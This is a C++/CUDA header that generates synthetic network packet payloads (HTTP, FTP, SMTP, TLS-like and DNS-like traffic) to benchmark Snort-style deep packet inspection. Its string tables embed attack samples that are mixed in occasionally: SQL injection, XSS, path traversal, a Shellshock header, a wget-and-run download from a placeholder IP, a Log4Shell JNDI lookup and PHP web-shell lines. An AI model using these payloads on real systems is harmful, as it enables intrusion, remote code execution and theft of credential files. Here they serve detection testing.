// payload.h -- deterministic, block-parallel synthetic packet payloads for the
// DPI configuration (BASELINE.json configs[4]: Snort-style content prefixes
// over packet payloads).  The reference has no payload generator; like the
// syslog corpus (corpus.h) this one is a pure function of (seed, block):
// block b covers bytes [b*kBlock, (b+1)*kBlock) and is a sequence of
// "packets" cut at the block end, so any byte range can be produced
// independently on the device or on host threads with identical bytes.
//
// Packet mix (full 0..255 byte alphabet): HTTP requests / responses with
// header fields, TLS-like records, DNS-like queries, raw binary segments, and
// occasionally an embedded attack string (the kind of content Snort rules
// match on).
#pragma once
#include "corpus.h"

namespace glop_payload {

using glop_corpus::blob_count;
using glop_corpus::blob_entry;
using glop_corpus::mix64;
using glop_corpus::Rng;
using glop_corpus::Writer;

constexpr uint32_t kBlock = 4096;

// '|'-separated; placeholders {f} path {h} host {a} agent {u} user {n} number
// {x} hex {k} attack string.  '~' stands for CR LF.
#define GLOP_PAYLOAD_HTTP                                                                          \
  "GET {f} HTTP/1.1~Host: {h}~User-Agent: {a}~Accept: */*~Connection: keep-alive~~|"               \
  "POST {f} HTTP/1.1~Host: {h}~User-Agent: {a}~Content-Type: application/x-www-form-urlencoded~"   \
  "Content-Length: {n}~~user={u}&pass={x}&next={f}|"                                               \
  "HTTP/1.1 200 OK~Server: nginx/1.24.0~Content-Type: text/html; charset=utf-8~Content-Length: {n}~~" \
  "<html><head><title>{u}</title></head><body>{x}</body></html>|"                                  \
  "HTTP/1.1 404 Not Found~Server: Apache/2.4.58 (Ubuntu)~Content-Length: {n}~~|"                   \
  "GET {f}?q={k} HTTP/1.1~Host: {h}~User-Agent: {a}~Cookie: session={x}{x}~~|"                     \
  "USER {u}~PASS {x}~SYST~TYPE I~PASV~RETR {f}~|"                                                  \
  "EHLO {h}~MAIL FROM:<{u}@{h}>~RCPT TO:<admin@{h}>~DATA~Subject: invoice {n}~~{k}~.~|"

#define GLOP_PAYLOAD_PATHS                                                                         \
  "/index.php|/wp-login.php|/cgi-bin/test.cgi|/../../../../etc/passwd|/admin/config.php|"          \
  "/api/v2/upload|/shell.php?cmd=id|/scripts/..%c0%af../winnt/system32/cmd.exe|/phpmyadmin/index.php|" \
  "/.git/config|/static/js/main.8f3a1c.js|/images/banner.jpg|/login.aspx|/HNAP1/|"

#define GLOP_PAYLOAD_HOSTS                                                                         \
  "www.example.com|api.internal.corp|10.0.0.7|cdn.static-assets.net|mail.example.org|update.vendor.io|"

#define GLOP_PAYLOAD_AGENTS                                                                        \
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64)|curl/8.5.0|sqlmap/1.7.2#stable (https://sqlmap.org)|"  \
  "Mozilla/5.0 zgrab/0.x|Nmap Scripting Engine|python-requests/2.31.0|masscan/1.3 (https://github.com/robertdavidgraham/masscan)|" \
  "() { :; }; /bin/bash -c 'cat /etc/passwd'|"

#define GLOP_PAYLOAD_ATTACKS                                                                       \
  "1' OR '1'='1' -- |UNION SELECT username, password FROM users|<script>alert(document.cookie)</script>|" \
  "/bin/sh -c 'wget http://198.51.100.7/x.sh -O /tmp/.x; sh /tmp/.x'|cmd.exe /c powershell -nop -w hidden -enc|" \
  "${jndi:ldap://203.0.113.9:1389/Exploit}|../../../../../../windows/win.ini|"                    \
  "<?php system($_GET['c']); ?>|eval(base64_decode($_POST['z']));|"                                 \
  "TVqQAAMAAAAEAAAA//8AALg|"

#if defined(__CUDACC__)
__device__ const char kHttpDev[] = GLOP_PAYLOAD_HTTP;
__device__ const char kPPathDev[] = GLOP_PAYLOAD_PATHS;
__device__ const char kPHostDev[] = GLOP_PAYLOAD_HOSTS;
__device__ const char kAgentDev[] = GLOP_PAYLOAD_AGENTS;
__device__ const char kAttackDev[] = GLOP_PAYLOAD_ATTACKS;
#endif
static const char kHttpHost[] = GLOP_PAYLOAD_HTTP;
static const char kPPathHost[] = GLOP_PAYLOAD_PATHS;
static const char kPHostHost[] = GLOP_PAYLOAD_HOSTS;
static const char kAgentHost[] = GLOP_PAYLOAD_AGENTS;
static const char kAttackHost[] = GLOP_PAYLOAD_ATTACKS;

#if defined(__CUDA_ARCH__)
#define GLOP_PAYLOAD_BLOB(name) name##Dev
#else
#define GLOP_PAYLOAD_BLOB(name) name##Host
#endif

GLOP_HD const char* http_blob() { return GLOP_PAYLOAD_BLOB(kHttp); }
GLOP_HD const char* ppath_blob() { return GLOP_PAYLOAD_BLOB(kPPath); }
GLOP_HD const char* phost_blob() { return GLOP_PAYLOAD_BLOB(kPHost); }
GLOP_HD const char* agent_blob() { return GLOP_PAYLOAD_BLOB(kAgent); }
GLOP_HD const char* attack_blob() { return GLOP_PAYLOAD_BLOB(kAttack); }
GLOP_HD const char* user_blob() { return glop_corpus::user_blob(); }

struct Counts {
  uint32_t http, path, host, agent, attack, user;
};
GLOP_HD Counts counts() {
  return Counts{blob_count(http_blob()),  blob_count(ppath_blob()),  blob_count(phost_blob()),
                blob_count(agent_blob()), blob_count(attack_blob()), blob_count(user_blob())};
}

GLOP_HD void emit_text(Writer& w, Rng& r, const char* t, const Counts& c) {
  while (*t && *t != '|') {
    if (*t == '~') {
      w.put('\r');
      w.put('\n');
      ++t;
      continue;
    }
    if (*t != '{') {
      w.put((uint8_t)*t++);
      continue;
    }
    const char f = t[1];
    t += 3;
    switch (f) {
      case 'f': w.str(blob_entry(ppath_blob(), r.below(c.path))); break;
      case 'h': w.str(blob_entry(phost_blob(), r.below(c.host))); break;
      case 'a': w.str(blob_entry(agent_blob(), r.below(c.agent))); break;
      case 'u': w.str(blob_entry(user_blob(), r.below(c.user))); break;
      case 'k':  // attack content in 1 of 32 such fields, benign token otherwise
        if (r.below(32) == 0) w.str(blob_entry(attack_blob(), r.below(c.attack)));
        else w.hex(r.next(), 8);
        break;
      case 'n': w.dec(r.below(100000)); break;
      case 'x': w.hex(r.next(), 8); break;
      default: w.put('?'); break;
    }
  }
}

// One packet payload.
GLOP_HD void emit_packet(Writer& w, Rng& r, const Counts& c) {
  const uint32_t kind = r.below(16);
  if (kind < 6) {  // HTTP / FTP / SMTP text
    emit_text(w, r, blob_entry(http_blob(), r.below(c.http)), c);
  } else if (kind < 10) {  // raw binary segment
    const uint32_t len = 32 + r.below(480);
    for (uint32_t i = 0; i < len; i += 4) {
      const uint32_t v = r.next();
      for (uint32_t k = 0; k < 4 && i + k < len; ++k) w.put((uint8_t)(v >> (8 * k)));
    }
  } else if (kind < 13) {  // TLS-like record: header + random body
    const uint32_t len = 40 + r.below(600);
    w.put(0x16);
    w.put(0x03);
    w.put((uint8_t)(1 + r.below(3)));
    w.put((uint8_t)(len >> 8));
    w.put((uint8_t)len);
    for (uint32_t i = 0; i < len; i += 4) {
      const uint32_t v = r.next();
      for (uint32_t k = 0; k < 4 && i + k < len; ++k) w.put((uint8_t)(v >> (8 * k)));
    }
  } else if (kind < 15) {  // DNS-like query
    const uint32_t id = r.next();
    w.put((uint8_t)id);
    w.put((uint8_t)(id >> 8));
    w.put(0x01);
    w.put(0x00);
    w.put(0x00);
    w.put(0x01);
    for (int k = 0; k < 6; ++k) w.put(0x00);
    const char* h = blob_entry(phost_blob(), r.below(c.host));
    while (*h && *h != '|') {  // labels
      const char* e = h;
      while (*e && *e != '|' && *e != '.') ++e;
      w.put((uint8_t)(e - h));
      while (h < e) w.put((uint8_t)*h++);
      if (*h == '.') ++h;
    }
    w.put(0x00);
    w.put(0x00);
    w.put(0x01);
    w.put(0x00);
    w.put(0x01);
  } else {  // binary padding, carrying a bare attack string in 1 of 32 cases
    for (uint32_t k = 8 + r.below(64); k; --k) w.put((uint8_t)r.next());
    if (r.below(32) == 0) w.str(blob_entry(attack_blob(), r.below(c.attack)));
  }
}

// Payload byte x (for `seed`) is byte x % kBlock of block x / kBlock;
// gen_block_range writes bytes [lo, hi) of block `block` to out[0, hi - lo).
GLOP_HD void gen_block_range(uint8_t* out, uint64_t seed, uint64_t block, uint32_t lo, uint32_t hi) {
  Rng r;
  r.s = mix64(seed * 0x9fb21c651e98df25ull ^ mix64(block + 0x7a11ull));
  Writer w{out, 0, lo, hi};
  const Counts c = counts();
  while (w.pos < hi) emit_packet(w, r, c);
}

}  // namespace glop_payload
